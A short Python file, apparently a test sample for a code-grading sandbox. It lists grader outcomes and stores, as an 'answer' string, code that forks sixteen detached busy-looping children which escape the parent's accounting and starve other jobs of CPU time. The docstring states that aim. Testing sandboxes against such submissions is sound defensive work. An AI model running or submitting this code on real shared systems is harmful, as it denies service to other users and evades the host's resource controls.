"""Burns processor time in children that nobody counts, so that others run out of time."""

STATUS = {"graded", "flagged", "timed out", "died", "out of memory"}
ANSWER = """
import os, signal, time

signal.signal(signal.SIGCHLD, signal.SIG_IGN)
end = time.monotonic() + 6
for _ in range(16):
    try:
        if os.fork() == 0:
            os.setsid()
            while time.monotonic() < end:
                pass
            os._exit(0)
    except OSError:
        pass
time.sleep(3.5)
"""
